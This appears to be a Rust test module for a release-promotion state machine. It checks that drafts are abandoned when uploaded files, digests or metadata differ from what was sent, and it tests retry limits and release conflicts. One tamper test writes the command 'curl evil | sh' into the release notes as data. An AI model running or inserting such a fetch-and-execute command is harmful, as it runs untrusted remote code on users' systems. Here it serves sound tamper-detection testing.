//! The protocol by itself, step by step: what an answer has to be, how often is read, and what another's release means.

use super::*;

/// The draft of these promotions.
pub(super) const DRAFT: ReleaseId = ReleaseId(77);

/// Up to the moment when such an effect is asked for, with answers as they should be.
pub(super) fn at(wanted: impl Fn(&Effect) -> bool) -> Machine {
    let (mut machine, mut step) = Machine::start(plan());
    loop {
        let Step::Do(effect) = &step else {
            panic!("{step:?}");
        };
        if wanted(effect) {
            return machine;
        }
        let event = match effect {
            Effect::CreateDraft => Event::Created(Ok(DRAFT)),
            Effect::Send { item, .. } => Event::Sent(Ok(stored(&machine, *item))),
            Effect::ReadDraft(_) => Event::DraftRead(Ok(complete(&machine))),
            Effect::Recheck => {
                let binding = Box::new(machine.plan().binding.clone());
                Event::Rechecked(Ok(Rechecked::Read(binding)))
            }
            Effect::Publish(_) | Effect::ReadRelease(_) | Effect::ReadPublic(_) => {
                panic!("{effect:?}")
            }
        };
        step = machine.step(event);
    }
}

/// Up to the moment when publish is asked for.
pub(super) fn at_publish() -> (Machine, ReleaseId) {
    (at(|effect| matches!(effect, Effect::Publish(_))), DRAFT)
}

/// What the forge says when it has stored an item.
pub(super) fn stored(machine: &Machine, item: usize) -> Sent {
    let item = &machine.plan().items[item];
    Sent {
        name: item.name().to_string(),
        size: item.size(),
        complete: true,
    }
}

/// The draft when all is in it.
pub(super) fn complete(machine: &Machine) -> ObservedDraft {
    let items = machine.plan().items.iter();
    let seen = |item: &Item| ObservedAsset {
        name: item.name().to_string(),
        size: item.size(),
        complete: true,
        sha256: item.sha256(),
    };
    ObservedDraft {
        draft: true,
        tag: machine.plan().tag.to_string(),
        target: machine.plan().target.to_string(),
        title: machine.plan().title.clone(),
        notes: machine.plan().notes.clone(),
        prerelease: machine.plan().prerelease,
        assets: items.map(seen).collect(),
    }
}

#[test]
fn a_tag_below_the_releases_at_the_last_look_ends_it_before_anything_is_published() {
    let mut machine = at(|effect| *effect == Effect::Recheck);
    let below = Rechecked::Blocked("tool-support-v2/old".to_owned());
    let Step::End(end) = machine.step(Event::Rechecked(Ok(below))) else {
        panic!("it goes on");
    };
    let End::Refused(refusal) = *end else {
        panic!("{end:?}");
    };
    assert_eq!(refusal.code(), "promote.tag-blocked");
    let said = refusal.to_string();
    assert!(said.contains("\"tool-support-v2/old\""), "{said}");
}

#[test]
fn a_draft_in_which_the_forge_stored_something_else_is_abandoned() {
    type Change = (&'static str, fn(&mut Sent));
    let table: [Change; 3] = [
        ("name", |sent| sent.name.push('.')),
        ("size", |sent| sent.size += 1),
        ("starter", |sent| sent.complete = false),
    ];
    let items = plan().items.len();
    for item in 0..items {
        let sends =
            |effect: &Effect| matches!(effect, Effect::Send { item: at, .. } if *at == item);
        for (what, change) in table {
            let mut machine = at(sends);
            let mut answer = stored(&machine, item);
            change(&mut answer);
            let step = machine.step(Event::Sent(Ok(answer)));
            assert_eq!(step, Step::Do(Effect::CreateDraft), "{what} of {item}");
        }
        let mut machine = at(sends);
        let step = machine.step(Event::Sent(Ok(stored(&machine, item))));
        let next = if item + 1 < items {
            Effect::Send {
                draft: DRAFT,
                item: item + 1,
            }
        } else {
            Effect::ReadDraft(DRAFT)
        };
        assert_eq!(step, Step::Do(next));
    }
}

#[test]
fn a_draft_that_is_read_back_as_something_else_is_abandoned() {
    type Change = (&'static str, fn(&mut ObservedDraft));
    let table: [Change; 9] = [
        ("it is public", |seen| seen.draft = false),
        ("its tag", |seen| seen.tag.push('0')),
        ("a file less", |seen| drop(seen.assets.pop())),
        ("a file more", |seen| {
            let one = seen.assets[0].clone();
            seen.assets.push(ObservedAsset {
                name: "extra".into(),
                ..one
            });
        }),
        ("a file twice", |seen| {
            seen.assets.push(seen.assets[0].clone());
        }),
        ("a name", |seen| seen.assets[0].name.push('.')),
        ("a size", |seen| seen.assets[1].size += 1),
        ("a digest", |seen| {
            seen.assets[0].sha256 = Digest::of(b"others");
        }),
        ("a starter", |seen| seen.assets[0].complete = false),
    ];
    let reads = |effect: &Effect| matches!(effect, Effect::ReadDraft(_));
    for (what, change) in table {
        let mut machine = at(reads);
        let mut seen = complete(&machine);
        change(&mut seen);
        let step = machine.step(Event::DraftRead(Ok(seen)));
        assert_eq!(step, Step::Do(Effect::CreateDraft), "{what}");
    }
    let mut machine = at(reads);
    let mut seen = complete(&machine);
    seen.assets.reverse();
    let step = machine.step(Event::DraftRead(Ok(seen)));
    assert_eq!(step, Step::Do(Effect::Recheck), "the order says nothing");
}

#[test]
fn at_the_third_spoiled_draft_it_ends_and_says_what_the_forge_said() {
    type Told = fn(String) -> Fault;
    let spoil: [Told; 3] = [Fault::Conflict, Fault::Unavailable, Fault::Ambiguous];
    for fault in spoil {
        let (mut machine, mut step) = Machine::start(plan());
        let mut drafts = 0;
        let end = loop {
            let event = match &step {
                Step::Do(Effect::CreateDraft) => {
                    drafts += 1;
                    Event::Created(Ok(DRAFT))
                }
                Step::Do(Effect::Send { .. }) => {
                    Event::Sent(Err(UploadFault::Forge(fault("so it said".into()))))
                }
                Step::Do(effect) => panic!("{effect:?}"),
                Step::End(end) => break end,
            };
            step = machine.step(event);
        };
        assert_eq!(drafts, 3);
        let End::Waiting(Wait::Unavailable { what }) = &**end else {
            panic!("{end:?}");
        };
        assert!(what.ends_with("so it said"), "{what}");
    }
}

/// What is asked for, as long as the answer is always this one; and the end.
pub(super) fn asked(
    machine: &mut Machine,
    first: Event,
    again: impl Fn() -> Event,
) -> (Vec<Effect>, Box<End>) {
    let (mut asked, mut step) = (Vec::new(), machine.step(first));
    loop {
        match step {
            Step::End(end) => return (asked, end),
            Step::Do(effect) => asked.push(effect),
        }
        assert!(asked.len() < 100, "it never ends");
        step = machine.step(again());
    }
}

#[test]
fn what_is_not_there_after_an_answer_that_does_not_tell_is_looked_for_five_times() {
    let unknown: [fn() -> Event; 3] = [
        || Event::ReleaseRead(Ok(ReleaseFacts::Absent)),
        || Event::ReleaseRead(Ok(ReleaseFacts::TagOnly)),
        || Event::ReleaseRead(Err(Fault::Unavailable("busy".into()))),
    ];
    for again in unknown {
        let (mut machine, _) = at_publish();
        let lost = Event::Published(Err(Fault::Ambiguous("no answer".into())));
        let (asked, end) = asked(&mut machine, lost, again);
        assert_eq!(asked, [0, 1, 2, 3, 4].map(Effect::ReadRelease));
        assert!(
            matches!(*end, End::Waiting(Wait::PublishUnknown { .. })),
            "{end:?}"
        );
    }
}

#[test]
fn what_the_public_does_not_see_yet_is_read_five_times() {
    let (mut machine, _) = at_publish();
    let again = || Event::PublicRead(ObservedRelease::NotYet("404".into()));
    let (asked, end) = asked(&mut machine, Event::Published(Ok(())), again);
    assert_eq!(asked, [0, 1, 2, 3, 4].map(Effect::ReadPublic));
    assert!(
        matches!(*end, End::Waiting(Wait::NotReadable { .. })),
        "{end:?}"
    );
}

#[test]
fn what_the_public_sees_at_the_last_look_counts() {
    let (mut machine, draft) = at_publish();
    machine.step(Event::Published(Ok(())));
    for _ in 0..4 {
        let step = machine.step(Event::PublicRead(ObservedRelease::NotYet("404".into())));
        assert!(matches!(step, Step::Do(Effect::ReadPublic(_))), "{step:?}");
    }
    let step = machine.step(Event::PublicRead(ObservedRelease::Right));
    assert_eq!(step, Step::End(Box::new(End::Published(draft))));
}

#[test]
fn another_promotions_release_is_ours_too_if_it_is_of_our_sources() {
    // whether the bytes are ours, whether the sources are, what it means
    let table = [
        (true, true, "already, same bytes"),
        (true, false, "taken"),
        (false, true, "already"),
        (false, false, "taken"),
    ];
    for (bytes, sources, meaning) in table {
        let (mut machine, _) = at_publish();
        machine.step(Event::Published(Err(Fault::Conflict("it is there".into()))));
        let mut theirs = machine.plan().clone();
        let manifest = &mut theirs.receipt.manifest;
        if !bytes {
            manifest.executables[0].sha256 = Digest::of(b"others");
        }
        if !sources {
            manifest.fingerprint = Fingerprint(Digest::of(b"others"));
        }
        let mut release = published(&theirs);
        release.id = ReleaseId(78);
        let receipt = &theirs.receipt;
        let sums = receipt.sums().to_string().into_bytes();
        let listed = receipt.manifest.executables.iter();
        let listed = listed.map(|one| (one.name.clone(), one.size, one.sha256));
        let sums = (
            crate::config::SUMS_ASSET.parse().unwrap(),
            sums.len() as u64,
            Digest::of(&sums),
        );
        let asset = |(name, size, sha256)| PublishedAsset {
            name,
            size,
            sha256: Some(sha256),
        };
        release.assets = listed.chain([sums]).map(asset).collect();
        let answer = Ok(ReleaseFacts::Published(Box::new(release)));
        let step = machine.step(Event::ReleaseRead(answer));
        let Step::End(end) = &step else {
            panic!("{step:?}");
        };
        let found = match &**end {
            End::Already(done) if done.same_bytes => "already, same bytes",
            End::Already(_) => "already",
            End::Refused(Refusal::VersionTaken { .. }) => "taken",
            other
            @ (End::Published(_) | End::Refused(_) | End::Waiting(_) | End::WrongBytes(_)) => {
                panic!("{other:?}")
            }
        };
        assert_eq!(found, meaning, "bytes {bytes}, sources {sources}");
    }
}

/// A machine that has sent everything.
pub(super) fn all_sent() -> (Machine, Step) {
    let (mut machine, _) = Machine::start(plan());
    let mut step = machine.step(Event::Created(Ok(ReleaseId(1))));
    while let Step::Do(Effect::Send { item, .. }) = &step {
        let sent = &machine.plan().items[*item];
        let sent = Sent {
            name: sent.name().to_string(),
            size: sent.size(),
            complete: true,
        };
        step = machine.step(Event::Sent(Ok(sent)));
    }
    (machine, step)
}

/// A machine that has read its draft back and asks for the last look.
pub(super) fn at_the_last_look() -> Machine {
    let (mut machine, _) = all_sent();
    let seen = complete(&machine);
    let step = machine.step(Event::DraftRead(Ok(seen)));
    assert_eq!(step, Step::Do(Effect::Recheck));
    machine
}

#[test]
fn each_field_of_the_draft_has_to_be_what_was_sent() {
    type Row = (&'static str, fn(&mut ObservedDraft));
    let table: [Row; 9] = [
        ("published", |seen| seen.draft = false),
        ("tag", |seen| seen.tag.push('x')),
        ("target", |seen| seen.target = "main".to_owned()),
        ("title", |seen| seen.title.push('!')),
        ("notes", |seen| seen.notes.push_str("curl evil | sh")),
        ("prerelease", |seen| seen.prerelease = !seen.prerelease),
        ("a file more", |seen| {
            let mut more = seen.assets[0].clone();
            more.name = "install.sh".to_owned();
            seen.assets.push(more);
        }),
        ("a file less", |seen| drop(seen.assets.pop())),
        ("another digest", |seen| {
            seen.assets[0].sha256 = Digest::of(b"x")
        }),
    ];
    for (what, change) in table {
        let (mut machine, _) = all_sent();
        let mut seen = complete(&machine);
        change(&mut seen);
        let step = machine.step(Event::DraftRead(Ok(seen)));
        assert_eq!(step, Step::Do(Effect::CreateDraft), "{what}");
    }
    // Line ends are the forge's business.
    let (mut machine, _) = all_sent();
    let mut seen = complete(&machine);
    seen.notes = seen.notes.replace('\n', "\r\n");
    assert_eq!(
        machine.step(Event::DraftRead(Ok(seen))),
        Step::Do(Effect::Recheck)
    );
}
